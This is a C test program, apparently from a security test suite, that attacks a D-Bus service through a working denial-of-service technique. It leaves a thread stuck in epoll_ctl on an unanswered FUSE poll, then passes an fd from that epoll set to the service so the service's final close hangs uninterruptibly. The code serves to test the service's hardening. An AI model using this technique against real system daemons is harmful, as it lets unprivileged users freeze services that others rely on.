/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack-epoll MODE N (as nobody): the seventh attack's second finding. The
 * gate takes an eventfd, timerfd, signalfd or pidfd for one whose close
 * "never waits" (gate-sweep.c's close_never_waits(); a pidfd is forwarded
 * and closed with the call, on the loop). But the last close of ANY file
 * in an epoll set takes that epoll's mutex (eventpoll_release_file()), and
 * epoll_ctl(ADD) holds the mutex while it polls the new file: a FUSE file
 * whose POLL its server never answers holds it for good. So: an epoll E, a
 * descriptor X in it, a thread stuck in epoll_ctl(E, ADD, FUSE file); X
 * passed to the gate and our copy closed: whoever closes X last waits in D
 * state, uninterruptibly (mutex_lock).
 *   unnamed  X an eventfd, in PrlimitPidfd (uh) (u 0, h 0): the sweep takes
 *            an eventfd for quiet, sd-bus closes it with the call on the
 *            gate's loop
 *   pidfd    X a pidfd of our own process, in a well-formed PrlimitPidfd:
 *            forwarded; the gate's copy is closed on its loop (forward_free)
 *            and the daemon's wherever it lets go of it
 * Up to N rounds, one per line read on standard input, each to the gate
 * serving then (a fresh X each time, the same stuck epoll). Prints "READY"
 * once the epoll_ctl thread waits on the POLL, "ROUND i OWNER pid ANSWER ms
 * text" per round, DONE at the end of its input, and holds on (its stuck
 * thread too) until killed. "SKIP why" where FUSE in a user namespace cannot
 * be had. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/syscall.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <systemd/sd-bus.h>

#include "fuse-withhold.h"

#define ELEMENTSOF(x) (sizeof(x) / sizeof((x)[0]))

#define GATE "org.example.Resource1.Pidfd"

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static unsigned answered;
static char last[512];
static int on_reply(sd_bus_message *m, void *u, sd_bus_error *e) {
        (void) u, (void) e;
        const sd_bus_error *er = sd_bus_message_get_error(m);
        answered++;
        snprintf(last, sizeof last, "%s: %s", er ? er->name : "OK", er ? er->message : "");
        return 0;
}

static unsigned owner_pid(sd_bus *b) {
        sd_bus_message *r = NULL;
        uint32_t pid = 0;
        if (sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                               "GetConnectionUnixProcessID", NULL, &r, "s", GATE) >= 0)
                (void) sd_bus_message_read(r, "u", &pid);
        sd_bus_message_unref(r);
        return pid;
}

/* Passes fd to PrlimitPidfd, closes ours at once (so that, the gate being
 * busy with the pings, its copy is the last reference once it has the
 * message; should the bus's be, the bus waits instead: a dbus-daemon
 * weakness outside the service) and waits up to 6 s for the answer: its time
 * in ms, or -1. */
static long pass(sd_bus *b, int fd, bool unnamed) {
        answered = 0;
        /* Keep the gate busy answering pings for a moment, so that the bus
         * has closed its copy before the gate reads the call: fewer than the
         * bus's pending replies per connection (128), past which it would
         * refuse the call and its own close be the last. */
        for (int k = 0; k < 120; k++) {
                sd_bus_message *ping = NULL;
                if (sd_bus_message_new_method_call(b, &ping, GATE, "/", "org.freedesktop.DBus.Peer", "Ping") >= 0)
                        (void) sd_bus_send(b, ping, NULL);
                sd_bus_message_unref(ping);
        }
        double t = now();
        int r = unnamed ? sd_bus_call_method_async(b, NULL, GATE, "/org/example/Resource1", "org.example.Resource1",
                                                   "PrlimitPidfd", on_reply, NULL, "uh", 0u, fd)
                        : sd_bus_call_method_async(b, NULL, GATE, "/org/example/Resource1", "org.example.Resource1",
                                                   "PrlimitPidfd", on_reply, NULL, "hsbtt", fd, "NOFILE", 0,
                                                   (uint64_t) 0, (uint64_t) 0);
        if (r < 0)
                return -1;
        close(fd);
        while (!answered && now() - t < 6) {
                (void) sd_bus_process(b, NULL);
                (void) sd_bus_wait(b, 100000);
        }
        while (sd_bus_process(b, NULL) > 0)
                ;
        return answered ? (long) ((now() - t) * 1000) : -1;
}

static int ep = -1, ffile = -1;
static volatile long stuck_tid;
static void *stuck_add(void *arg) {
        (void) arg;
        stuck_tid = syscall(SYS_gettid);
        struct epoll_event ev = { .events = EPOLLIN };
        int r = epoll_ctl(ep, EPOLL_CTL_ADD, ffile, &ev);   /* FUSE_POLL, never answered: holds ep->mtx */
        fprintf(stderr, "stuck epoll_ctl returned %d (%m)\n", r);
        return NULL;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 3 || (strcmp(argv[1], "unnamed") && strcmp(argv[1], "pidfd"))) {
                fprintf(stderr, "usage: attack-epoll unnamed|pidfd N\n");
                return 2;
        }
        bool unnamed = strcmp(argv[1], "unnamed") == 0;
        sd_bus *b = NULL;
        if (sd_bus_open_system(&b) < 0) {
                printf("FAIL no system bus\n");
                return 1;
        }
        ffile = fuse_withheld_file("attack-epoll");
        ep = epoll_create1(EPOLL_CLOEXEC);
        unsigned n = (unsigned) atoi(argv[2]);
        int xs[64];
        if (n < 1 || n > ELEMENTSOF(xs)) {
                fprintf(stderr, "attack-epoll: 1 to %zu rounds\n", ELEMENTSOF(xs));
                return 2;
        }
        for (unsigned i = 0; i < n; i++) {
                xs[i] = unnamed ? eventfd(0, EFD_CLOEXEC) : (int) syscall(SYS_pidfd_open, getpid(), 0);
                struct epoll_event ev = { .events = EPOLLIN };
                if (xs[i] < 0 || epoll_ctl(ep, EPOLL_CTL_ADD, xs[i], &ev) < 0) {
                        printf("FAIL X: %m\n");
                        return 1;
                }
        }
        pthread_t t;
        pthread_create(&t, NULL, stuck_add, NULL);
        /* The thread is in epoll_ctl for good once the server has the POLL:
         * its FUSE file's POLL is never answered. */
        char path[64], st[256] = "";
        for (int k = 0; k < 50 && !strstr(st, "request_wait_answer"); k++) {
                usleep(100000);
                snprintf(path, sizeof path, "/proc/self/task/%ld/wchan", stuck_tid);
                FILE *f = fopen(path, "re");
                if (f) {
                        if (!fgets(st, sizeof st, f))
                                st[0] = '\0';
                        fclose(f);
                }
        }
        if (!strstr(st, "request_wait_answer")) {
                printf("FAIL the epoll_ctl thread is not waiting on the FUSE POLL (wchan %s)\n", st);
                return 1;
        }
        printf("READY epoll_ctl thread %ld waits in %s, holding the epoll's mutex\n", stuck_tid, st);
        /* One round per line on standard input: the test checks the service
         * between rounds. */
        char line[16];
        for (unsigned i = 0; i < n && fgets(line, sizeof line, stdin); i++) {
                unsigned o = owner_pid(b);
                long ms = pass(b, xs[i], unnamed);
                printf("ROUND %u OWNER %u ANSWER %ld %s\n", i, o, ms, ms < 0 ? "(none in 6 s)" : last);
        }
        printf("DONE\n");
        pause();
        return 0;
}
